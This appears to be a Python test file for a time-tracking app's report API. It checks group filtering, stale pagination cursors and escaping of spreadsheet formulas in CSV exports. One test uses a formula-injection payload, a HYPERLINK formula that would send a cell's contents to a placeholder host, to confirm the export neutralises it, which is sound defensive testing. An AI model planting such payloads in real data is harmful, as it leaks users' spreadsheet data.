"""Reports v3 edge cases: user groups, stale cursors, spreadsheet formulas in exports."""

from __future__ import annotations

import csv
import io
from typing import Any

from litestar.testing import TestClient

from punchclock.reports.csv_files import safe_cell
from tests.api.support.entries import create_time_entry
from tests.api.support.reports import RANGE, REPORTS, post_detailed_search
from tests.conftest import API, Account


def _entry(client: TestClient[Any], who: Account, start: str, description: str = "") -> int:
    body = {"start": start, "duration": 600, "description": description, "created_with": "t"}
    return int(create_time_entry(client, who, **body)["id"])


def test_group_ids_match_nobody_but_null_matches_everyone(
    client: TestClient[Any], alice: Account
) -> None:
    _entry(client, alice, "2026-11-03T09:00:00Z")
    # Punchclock has no user groups.
    assert (
        post_detailed_search(client, alice, alice.workspace_id, {**RANGE, "group_ids": [5]}).json()
        == []
    )
    assert (
        len(
            post_detailed_search(
                client, alice, alice.workspace_id, {**RANGE, "group_ids": [None]}
            ).json()
        )
        == 1
    )
    assert (
        len(
            post_detailed_search(
                client, alice, alice.workspace_id, {**RANGE, "group_ids": []}
            ).json()
        )
        == 1
    )


def test_a_first_id_cursor_whose_entry_is_gone_continues_by_timestamp(
    client: TestClient[Any], alice: Account
) -> None:
    ids = [_entry(client, alice, f"2026-11-0{day}T09:00:00Z") for day in range(1, 6)]
    first = post_detailed_search(client, alice, alice.workspace_id, {**RANGE, "page_size": 2})
    next_id, next_ts = int(first.headers["X-Next-ID"]), int(first.headers["X-Next-Timestamp"])
    assert next_id == ids[2]
    deleted = client.delete(
        f"{API}/workspaces/{alice.workspace_id}/time_entries/{next_id}", auth=alice.auth
    )
    assert deleted.status_code == 200
    cursor = {**RANGE, "page_size": 2, "first_id": next_id, "first_timestamp": next_ts}
    second = post_detailed_search(client, alice, alice.workspace_id, cursor).json()
    assert [row["time_entries"][0]["id"] for row in second] == [ids[1], ids[0]]
    # Without the timestamp there is nothing to continue from: a 400, not an empty last page.
    lost = post_detailed_search(
        client, alice, alice.workspace_id, {**RANGE, "page_size": 2, "first_id": next_id}
    )
    assert lost.status_code == 400
    assert lost.json().startswith("Invalid 'first_id' value, allowed values are:")


def test_csv_cells_never_start_a_formula(client: TestClient[Any], alice: Account) -> None:
    _entry(client, alice, "2026-11-03T09:00:00Z", '=HYPERLINK("http://x/?"&A1,"x")')
    _entry(client, alice, "2026-11-04T09:00:00Z", "-5 bugs fixed")
    response = client.post(
        f"{REPORTS}/{alice.workspace_id}/search/time_entries.csv", json=RANGE, auth=alice.auth
    )
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    descriptions = {line[5] for line in lines[1:]}
    assert descriptions == {'\'=HYPERLINK("http://x/?"&A1,"x")', "'-5 bugs fixed"}


def test_safe_cell_leaves_numbers_and_plain_text() -> None:
    assert safe_cell("-12.50") == "-12.50"
    assert safe_cell("Plain") == "Plain"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("+1") == "'+1"
    assert safe_cell(3) == 3
